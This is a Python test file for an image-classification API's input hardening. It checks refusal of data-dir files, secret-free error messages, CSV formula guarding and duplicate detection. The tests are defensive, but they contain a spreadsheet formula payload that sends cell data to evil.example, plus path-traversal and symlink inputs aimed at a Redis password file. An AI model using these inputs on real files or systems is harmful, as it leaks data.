"""Hardening, third round (issue 25): what the system writes is never an input, manifest
refusals never echo a file, malformed S3 keys are a 400, one URL limit per job, guarded CSV
headers, one file under several spellings is a duplicate, and the small refusals."""

from __future__ import annotations

import csv
import dataclasses
import http.client
import io
import json
import os
import random
import secrets
import subprocess
import sys
import time
from pathlib import Path

import pytest

from api import create_app
from facesense.errors import SourceError
from facesense.inputs.keys import default_group
from facesense.inputs.manifests import save_manifest
from facesense.inputs.sources import normalize_source, open_source
from facesense.outputs.results import csv_header, summary_csv, write_results
from facesense.settings import Settings
from facesense.storage import LocalStore, layout
from facesense.synthetic import encode
from tests.conftest import BUCKET
from tests.imagegen import make_image

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


def jpeg(path: Path) -> Path:
    """A small real JPEG at path."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(encode(make_image(random.Random(3), (64, 48)), "JPEG"))
    return path


def submit(client, **body):
    """POST a scoring job; (status, error message or None)."""
    r = client.post("/v1/jobs", json={"type": "classify", **body})
    return r.status_code, (r.get_json().get("error") or {}).get("message")


@pytest.fixture(scope="module")
def data_dir(settings) -> Path:
    """The data dir the API runs with (inside the allowed root, as ./var is in the working
    directory by default), holding what `facesense up` and training write there."""
    data = Path(settings.data_dir)
    (data / "redis").mkdir(parents=True, exist_ok=True)
    (data / "redis" / "password").write_text(secrets.token_hex(32) + "\n")
    (data / "redis" / "redis.conf").write_text("requirepass " + secrets.token_hex(32) + "\n")
    jpeg(data / "cache" / "datasets" / "0123abcd" / "happy" / "private.jpg")
    return data


def test_the_data_dir_is_never_an_input_whatever_the_roots(client, settings, data_dir, base_dir):
    # Given a data dir inside the allowed root, holding the Redis password and a cached dataset
    password = (data_dir / "redis" / "password").read_text().strip()
    cached = data_dir / "cache" / "datasets" / "0123abcd"
    study = base_dir / "round3-data-dir"
    study.mkdir(exist_ok=True)
    (study / "into-var").symlink_to(data_dir)
    # When a key names them as a manifest, a source, a dataset or a manifest's line
    for manifest in (data_dir / "redis" / "password", data_dir / "redis" / "redis.conf",
                     f"file://{data_dir}/redis/password", study / "into-var" / "redis" / "password"):
        status, message = submit(client, manifest=str(manifest))
        # Then each is a 422 that says nothing of the file's content
        assert status == 422 and "never an input" in message, (manifest, message)
        assert password not in message and "requirepass" not in message
    for source in (cached, data_dir, study / "into-var"):
        assert submit(client, source=str(source))[0] == 422, source
    r = client.post("/v1/jobs", json={"type": "train", "dataset": str(cached)})
    assert r.status_code == 422 and "never an input" in r.get_json()["error"]["message"]
    image = cached / "happy" / "private.jpg"
    for line in (str(image), f"../{data_dir.name}/cache/datasets/0123abcd/happy/private.jpg",
                 "into-var/cache/datasets/0123abcd/happy/private.jpg"):
        (study / "m.csv").write_text(f"image\n{line}\n")
        status, message = submit(client, manifest=str(study / "m.csv"))
        assert (status, message.split(":")[0]) == (422, "line 2"), (line, message)
        assert "never an input" in message
    # And a folder holding a link into the data dir lists no file through it
    (study / "photos").mkdir(exist_ok=True)
    jpeg(study / "photos" / "mine.jpg")
    (study / "photos" / "pw.jpg").symlink_to(data_dir / "redis" / "password")
    (study / "photos" / "theirs.jpg").symlink_to(image)
    source = open_source(normalize_source(str(study / "photos"), settings), settings,
                         LocalStore(base_dir / "unused-store"))
    assert list(source.list()) == ["mine.jpg"]


def test_manifest_refusals_never_echo_the_files_cells(client, base_dir):
    # Given files under a root that are not manifests (a secret beside the photos)
    folder = base_dir / "round3-echo"
    folder.mkdir(exist_ok=True)
    secret = "s3cr3t-" + secrets.token_hex(8)
    files = {"secret.env": f"AWS_SECRET_ACCESS_KEY={secret}\nOTHER=1\n",
             "creds.json": f'{{"token": "{secret}"}}\n',
             "header.csv": f"image,{secret}\nx.jpg,1\n",
             "cells.csv": f"image,who\n{secret}/x.jpg,1\n"}
    for name, text in files.items():
        (folder / name).write_text(text)
        # When each is named as a manifest (or with a group_by to list its header)
        for extra in ({}, {"group_by": "nope"}):
            status, message = submit(client, manifest=str(folder / name), **extra)
            # Then the refusal names the line and the problem, never a cell
            assert status in (400, 422) and message.startswith(("line ", "group_by")), message
            assert secret not in message and "AWS_SECRET" not in message, (name, message)


def test_empty_roots_read_no_local_folder(tmp_path, monkeypatch):
    # Given no FACESENSE_ALLOWED_ROOTS, and photos in the working directory
    monkeypatch.chdir(tmp_path)
    jpeg(tmp_path / "photos" / "a.jpg")
    settings = Settings(store=str(tmp_path / "var" / "store"), data_dir=str(tmp_path / "var"))
    # Then no local folder may be read, and the refusal says why
    for folder in ("photos", str(tmp_path / "photos"), "."):
        with pytest.raises(SourceError, match="FACESENSE_ALLOWED_ROOTS is empty"):
            normalize_source(folder, settings)


@pytest.mark.parametrize("key", ["../x.csv", "a//b.csv", "./m.csv", "a\\m.csv", "a/../m.csv"])
def test_a_malformed_s3_manifest_key_is_a_400_naming_it(client, key):
    status, message = submit(client, manifest=f"s3://{BUCKET}/{key}")
    assert status == 400 and repr(key) in message, message
    status, message = submit(client, source=f"s3://{BUCKET}/{key}")
    assert status == 400 and repr(key) in message, message


def test_a_manifest_of_urls_obeys_the_url_limit_of_a_url_list(settings, model_version, base_dir):
    # Given a limit of 3 URLs per job
    client = create_app(dataclasses.replace(settings, url_max_per_job=3)).test_client()
    urls = [f"http://127.0.0.1:9/img{i}.jpg" for i in range(4)]
    (base_dir / "urls.csv").write_text("image\n" + "\n".join(urls) + "\n")
    # Then 4 URLs are a 413 whether given as `urls` or as a manifest, naming the line past it
    assert submit(client, urls=urls)[0] == 413
    assert submit(client, manifest=str(base_dir / "urls.csv")) == (
        413, "line 5: the manifest lists more than 3 image URLs (FACESENSE_URL_MAX_PER_JOB)")


def test_manifest_column_names_are_guarded_in_every_csv_header(tmp_path):
    # Given a manifest whose column is named like a spreadsheet formula
    store = LocalStore(tmp_path / "store")
    text = io.StringIO()
    csv.writer(text).writerows([["image", HOSTILE, "variant"], ["s3://b/a.jpg", "1", "=A1"]])
    body = text.getvalue().encode()
    save_manifest(body, "m.csv", "", None, store, "job1", Settings())
    # When the job's results are written
    row = {"image": "s3://b/a.jpg", "group": "=cmd", "label": "happy", "confidence": 0.9,
           "probs": {"happy": 0.9, "sad": 0.1}, "error": None}
    summary = write_results(store, "job1", [row], ["happy", "sad"])
    table = list(csv.reader(io.StringIO(store.get(layout.job_key(
        "job1", layout.RESULTS_CSV)).decode())))
    # Then every header cell, like every data cell, starts no formula
    assert table[0][-2:] == ["'" + HOSTILE, "variant"] and table[1][-1] == "'=A1"
    assert all(not c.startswith(("=", "+", "-", "@")) for c in table[0])
    assert csv_header(["happy"], ["@x"])[-1] == "'@x"
    summary_rows = list(csv.reader(io.StringIO(summary_csv(summary))))
    assert all(not c.startswith(("=", "+", "-", "@")) for r in summary_rows for c in r)


def test_one_file_under_several_spellings_is_a_duplicate(client, base_dir):
    # Given one image, a link to it, and a manifest beside them
    folder = base_dir / "round3-dup"
    image = jpeg(folder / "a" / "img.jpg")
    (folder / "link.jpg").symlink_to(image)
    spellings = ["a/img.jpg", str(image), image.as_uri(), "link.jpg", "a/./img.jpg",
                 f"../{folder.name}/a/img.jpg"]
    for i, first in enumerate(spellings):
        for second in spellings[i + 1:]:
            (folder / "m.csv").write_text(f"image\n{first}\n{second}\n")
            # Then any two spellings of it are one duplicate, named by its lines
            assert submit(client, manifest=str(folder / "m.csv")) == (
                400, "line 3: duplicate row: its image is already listed on line 2"), (first,
                                                                                       second)


def test_small_refusals_backslashes_ipv6_groups_and_reserved_class_names(client, base_dir):
    from trainer.data import DatasetError, check_classes

    folder = base_dir / "round3-small"
    jpeg(folder / "a" / "img.jpg")
    (folder / "m.csv").write_text("image\na\\img.jpg\n")
    status, message = submit(client, manifest=str(folder / "m.csv"))
    assert status == 400 and message.startswith("line 2: the image's path holds a backslash")
    assert default_group("http://[::1]:8080/a.jpg") == "::1"
    assert default_group("https://user@[2001:db8::7]/x.png") == "2001:db8::7"
    assert default_group("http://Example.COM:81/a.jpg") == "example.com"
    for name in ("!errors", "!no_face"):
        with pytest.raises(DatasetError, match="may not start with '!'"):
            check_classes({name: ["x/1.jpg"], "happy": ["happy/1.jpg"]}, None, set())


def test_the_servers_own_errors_are_json(settings, model_version):
    from cli.supervise import ApiThread

    # Given the API as `facesense up` serves it
    api = ApiThread("127.0.0.1", 0, create_app(settings))
    try:
        conn = http.client.HTTPConnection("127.0.0.1", api.server.server_port, timeout=10)
        # When a request line is longer than the server takes
        conn.request("GET", "/v1/jobs/" + "x" * 100_000)
        resp = conn.getresponse()
        # Then the answer is a JSON error like every other
        assert resp.status == 414 and resp.getheader("Content-Type") == "application/json"
        assert json.loads(resp.read())["error"]["code"] == "request_uri_too_long"
    finally:
        api.stop()


def test_gunicorns_own_errors_are_json(settings, model_version, tmp_path):
    from cli.launcher import free_port

    # Given the API under gunicorn with the image's settings file
    port = free_port()
    log = (tmp_path / "gunicorn.log").open("wb")
    proc = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "-c", "python:api.gunicorn_conf", "--bind",
         f"127.0.0.1:{port}", "--workers", "1", "api:create_app()"],
        env={**os.environ, **settings.env()}, cwd=Path(__file__).resolve().parent.parent,
        stdout=log, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        while True:  # until it answers (or has died)
            assert proc.poll() is None and time.monotonic() < deadline, \
                (tmp_path / "gunicorn.log").read_text()
            try:
                conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
                conn.request("GET", "/healthz")
                assert conn.getresponse().status == 200
                break
            except ConnectionRefusedError:
                time.sleep(0.1)
        # When a request line is longer than gunicorn takes
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        conn.request("GET", "/v1/jobs/" + "x" * 100_000)
        resp = conn.getresponse()
        # Then gunicorn's own answer is a JSON error too
        assert resp.status == 414 and resp.getheader("Content-Type") == "application/json"
        error = json.loads(resp.read())["error"]
        assert error["code"] == "request_uri_too_long" and "too large" in error["message"], error
    finally:
        proc.terminate()
        proc.wait(10)
        log.close()


def test_models_measure_refuses_a_bad_sample_or_name_before_measuring(tmp_path):
    from facesense.registry import Registry
    from tests.test_cli import facesense

    # Given a registered version (its weights never loaded: every refusal comes first)
    env = {k: v for k, v in os.environ.items() if not k.startswith("FACESENSE_")}
    env["FACESENSE_DATA_DIR"] = str(tmp_path)
    Registry(LocalStore(tmp_path / "store")).register(b"not read", {"classes": ["a", "b"]},
                                                      version="v1")
    for args, said in ((["--sample-images", "0"], "--sample-images must be at least 1"),
                       (["--new-version", "aliases"], "'aliases' is reserved"),
                       (["--new-version", "v1"], "already exists")):
        out = facesense("models", "measure", "v1", *args, env=env, check=False)
        # Then each is a one-line error, before any measuring, and no traceback
        assert out.returncode != 0 and said in out.stderr, out.stderr
        assert "Traceback" not in out.stderr and "measuring" not in out.stderr
